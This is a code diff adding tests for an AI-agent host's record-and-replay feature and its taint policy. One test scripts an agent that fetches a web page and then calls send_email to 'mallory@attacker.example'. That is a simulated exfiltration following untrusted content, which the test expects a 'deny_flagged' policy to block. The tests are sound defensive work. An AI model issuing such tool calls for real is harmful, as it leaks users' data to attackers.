@@ -295,3 +295,28 @@ async def _sql(url: str, statement: str, params: tuple[Any, ...]) -> None:
 
     with psycopg.connect(url, autocommit=True) as db:
         db.execute(statement, params)  # type: ignore[arg-type]
+
+
+async def test_replay_through_the_recording_policy_changes_nothing(store: Store) -> None:
+    """The rebuilt context is the one the gate had: same policy, same decisions."""
+    await record(store)
+    await record(store, policy=parse_policy("[taint]\nreads = \"all\"\n"))
+    for policy in (Policy.default(), parse_policy("[taint]\nreads = \"all\"\n")):
+        report = await replay(store, policy, tools={t.name: t for t in toolbox()})
+        assert (report.replayed, report.unchanged, report.changes) == (6, 6, ())
+
+
+async def test_replay_sees_the_result_of_an_earlier_call_of_the_same_reply(
+        store: Store) -> None:
+    from anfitrion import Host, ScriptedModel
+    from anfitrion.conversation import Reply, ToolCall
+
+    steps = iter([Reply((ToolCall.from_object("r1", "fetch", {"url": "https://n.example/"}),
+                         ToolCall.from_object("r2", "send_email", {
+                             "to": "mallory@attacker.example", "body": "hi"}))), "done"])
+    host = Host(ScriptedModel(lambda request: next(steps)), toolbox(), store=store)
+    await host.run("Summarise https://n.example/", principal="alice")
+    report = await replay(store, parse_policy("[taint]\ndeny_flagged = true\n"),
+                          tools={t.name: t for t in toolbox()})
+    assert [(c.before.value, c.after.value, c.tool) for c in report.changes] == \
+        [("ask", "deny", "send_email")]
